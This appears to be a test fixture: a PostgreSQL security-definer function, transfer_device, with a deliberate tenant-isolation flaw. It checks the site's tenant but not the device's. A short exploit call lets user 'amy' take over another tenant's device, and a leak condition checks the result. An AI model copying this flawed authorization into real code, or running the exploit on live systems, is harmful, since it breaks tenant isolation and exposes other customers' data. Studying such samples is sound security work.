-- channel: function
-- object: public.transfer_device
-- says: The definer checks the site's tenant but not the device's, so foreign devices are pulled in.
create or replace function public.transfer_device(p_device uuid, p_site uuid)
returns boolean
language plpgsql security definer
set search_path = ''
as $$
begin
    if internal.app_role() is distinct from 'manager' then
        return false;
    end if;
    update public.devices as d
    set site_id = s.id, tenant_id = s.tenant_id
    from public.sites as s
    where d.id = p_device and s.id = p_site and s.tenant_id = internal.tenant_id();
    return found;
end
$$;
-- exploit as amy
select public.transfer_device(
    'd4000000-0000-4000-8000-0000000000bb', 'c4000000-0000-4000-8000-00000000000a'
);
-- leaks when exists (
--     select from public.devices
--     where id = 'd4000000-0000-4000-8000-0000000000bb' and tenant_id = :org_a
-- )
